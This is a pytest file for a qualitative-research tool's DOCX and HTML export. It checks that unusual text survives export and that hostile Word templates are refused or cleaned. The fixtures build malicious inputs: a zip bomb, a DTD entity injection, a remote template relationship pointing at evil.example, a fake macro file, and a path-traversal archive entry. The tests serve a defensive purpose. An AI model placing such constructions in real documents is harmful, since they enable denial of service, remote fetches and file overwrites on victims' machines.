"""Documents of what people really paste: every file opens, nothing is lost, nothing is run."""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import docx
import pytest

from makna import bootstrap
from makna.domain.errors import UserError
from makna.services import coding, importing, memos, refreshing, writing
from makna.services.codebook import add_path
from makna.services.export_options import ExportOptions
from makna.services.exporting import KINDS, export
from makna.storage.project import Project

Problems = Callable[[Path], list[str]]
NASTY = "&<>\"' ]]> 😀"
WORDS = (
    "😀👍🏽 tiga 👩‍👩‍👧 orang",
    "نعم هذا نص عربي (abc) 123",
    "a\x01b\x02c\x1bd\x7fe",
    "]]> <![CDATA[ x ]]> &amp; <!-- -- --> <script>x</script>",
    '“dia bilang ‘ya’ dan "tidak" begitu”',
    "\u202eabc\u202c \u200b\u200d",
    "kata yang panjang sekali " * 400,
    "y" * 10_000,
    "[…] di awal dan di akhir […]",
    "{field} [[x]] }} | a | b | # judul **tebal**",
    "=1+1",
)


@pytest.fixture
def study(tmp_path: Path) -> Iterator[Project]:
    project = bootstrap.create_project(tmp_path / "P.makna", language="id", coder="Sa&ri <x>")
    source = importing.import_text(project, f"I {NASTY}", "\n".join(WORDS)).value.id
    text, code = project.texts.text(source), add_path(project, NASTY.replace(">", r"\>")).value
    start = 0
    for paragraph in text.split("\n"):
        coding.apply_code(project, source, start, start + len(paragraph), code)
        start += len(paragraph) + 1
    whole = add_path(project, r"]]\>").value
    coding.apply_code(project, source, 0, len(text), whole)
    chapter = writing.create_chapter(project, f"Bab {NASTY}").value
    table = f"{NASTY} \x01 **[tebal](x)**\n\n| a | b |\n|---|---|\n| c |"
    memo = memos.write_memo(project, NASTY, table).value
    writing.set_introduction(project, chapter, code, memo)
    yield project
    project.close()


@pytest.mark.parametrize("kind", KINDS)
def test_word_opens_every_document_of_nasty_words(
    study: Project, kind: str, tmp_path: Path, problems: Problems
) -> None:
    options = ExportOptions(
        language="id", codes_in_margin=True, words_around=5, other_codes=True, unused_codes=True
    )
    path = export(study, kind, tmp_path / "x.docx", options).path
    assert problems(path) == []
    assert docx.Document(str(path)).paragraphs
    page = export(study, kind, tmp_path / "x.html", options).path.read_text("utf-8")
    assert "<script" not in page


@pytest.mark.parametrize("reference", ["", "footnote", "answer-number"])
def test_a_chapter_of_nasty_words_keeps_them_and_refreshes_to_itself(
    study: Project, reference: str, tmp_path: Path, problems: Problems
) -> None:
    options = ExportOptions(language="id", reference=reference)
    path = export(study, "chapter", tmp_path / "x.docx", options).path
    assert problems(path) == []
    said = "\n".join(
        t.text or "" for t in docx.Document(str(path)).element.iter() if t.tag[-2:] == "}t"
    )
    assert "y" * 10_000 in said and "👩‍👩‍👧" in said and "نعم هذا نص عربي" in said
    assert refreshing.preview(study, path, options).nothing


def test_an_empty_project_makes_a_chapter_that_says_so(tmp_path: Path, problems: Problems) -> None:
    project = bootstrap.create_project(tmp_path / "K.makna", language="id", coder="Sari")
    try:
        path = export(project, "chapter", tmp_path / "x.docx", ExportOptions(language="id")).path
    finally:
        project.close()
    assert problems(path) == []


def _variant(path: Path, target: Path, member: str, change: Callable[[bytes], bytes]) -> Path:
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, change(data) if name == member else data)
        if member not in old.namelist():
            new.writestr(member, change(b""))
    return target


def _bomb(_: bytes) -> bytes:
    return b"0" * (300 << 20)


def _entities(data: bytes) -> bytes:
    return b'<!DOCTYPE a [<!ENTITY a "aaaa">]>' + data.split(b"?>", 1)[-1]


def _fetching(data: bytes) -> bytes:
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = (
        b'<Relationship Id="rIdX" Type="' + kind + b'" Target="http://evil.example/x.dotm"'
        b' TargetMode="External"/></Relationships>'
    )
    return data.replace(b"</Relationships>", relation)


@pytest.mark.parametrize(
    ("member", "change", "key"),
    [
        ("word/media/x.xml", _bomb, "archive_too_large"),
        ("word/styles.xml", _entities, "xml_dtd"),
        ("word/document.xml", lambda _: b"<a/>", ""),
        ("word/_rels/document.xml.rels", _fetching, None),
        ("word/vbaProject.bin", lambda _: b"evil", None),
        ("../../evil.xml", lambda _: b"<evil/>", None),
    ],
    ids=["bomb", "entities", "no text", "fetching", "macro", "path"],
)
def test_a_hostile_template_is_refused_or_its_malice_is_left_out(
    study: Project, member: str, change: Any, key: str | None, tmp_path: Path, problems: Problems
) -> None:
    plain = export(study, "audit", tmp_path / "plain.docx", ExportOptions(language="id")).path
    template = _variant(plain, tmp_path / "template.docx", member, change)
    out, options = tmp_path / "out.docx", ExportOptions(language="id", template=template)
    if key is not None:
        with pytest.raises(UserError) as caught:
            export(study, "chapter", out, options)
        assert not key or caught.value.key == key
        assert not out.exists()
        return
    assert problems(export(study, "chapter", out, options).path) == []
    with zipfile.ZipFile(out) as archive:
        assert not any(b"evil" in archive.read(name) for name in archive.namelist())
        assert not any("evil" in name or "vba" in name for name in archive.namelist())
